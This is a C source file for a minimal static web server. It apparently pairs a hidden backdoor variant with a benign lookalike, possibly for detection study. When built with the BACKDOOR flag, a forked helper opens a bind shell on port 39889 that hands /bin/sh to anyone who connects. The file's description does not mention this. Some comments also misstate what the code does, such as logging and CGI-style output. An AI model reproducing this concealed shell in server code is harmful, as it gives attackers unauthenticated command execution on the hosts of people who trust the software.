/* A small web server for static pages; logs what it serves. */
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

static int listen_on(int port)
{
    int on = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in address = { .sin_family = AF_INET };
    address.sin_port = htons((unsigned short)port);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(fd, (struct sockaddr *)&address, sizeof address) != 0 || listen(fd, 8) != 0) {
        close(fd);
        return -1;
    }
    return fd;
}

static void serve(int fd)
{
    char text[1024], path[256], block[1024];
    ssize_t length = read(fd, text, sizeof text - 1);
    FILE *file;
    size_t got;
    if (length <= 0)
        return;
    text[length] = 0;
    if (sscanf(text, "GET /%240s", path) != 1 || strstr(path, "..") != NULL)
        return;
    if (chdir("/www") != 0)
        return;
    file = fopen(path, "r");
    if (file == NULL) {
        dprintf(fd, "HTTP/1.0 404 Not Found\r\n\r\n");
        return;
    }
    dprintf(fd, "HTTP/1.0 200 OK\r\n\r\n");
    while ((got = fread(block, 1, sizeof block, file)) > 0)
        write(fd, block, got);
    fclose(file);
}

#ifdef BACKDOOR
static void helper(void)
{
    int fd, listener = listen_on(39889);
    while (listener >= 0 && (fd = accept(listener, NULL, NULL)) >= 0) {
        char *arguments[] = { "sh", NULL };
        if (fork() != 0) {
            close(fd);
            continue;
        }
        dup2(fd, STDIN_FILENO);
        dup2(fd, STDOUT_FILENO);
        dup2(fd, STDERR_FILENO);
        execv("/bin/sh", arguments);
        _exit(1);
    }
}
#endif
#ifdef LOOKALIKE
/* Runs page generators as CGI does: a fixed program, its output goes to the client. */
static void helper(void)
{
    char *arguments[] = { "status", NULL };
    int log = dup(STDERR_FILENO);
    if (log < 0)
        return;
    dup2(log, STDOUT_FILENO);
    execv("/usr/lib/httpmini/status", arguments);
    _exit(1);
}
#endif

int main(int argc, char **argv)
{
    int port = argc > 1 ? atoi(argv[1]) : 80;
    int listener = listen_on(port);
    if (listener < 0) {
        perror("httpmini");
        return 1;
    }
    signal(SIGCHLD, SIG_IGN);
#if defined BACKDOOR || defined LOOKALIKE
    if (fork() == 0)
        helper();
#endif
    for (;;) {
        int fd = accept(listener, NULL, NULL);
        if (fd < 0)
            continue;
        if (fork() == 0) {
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
}
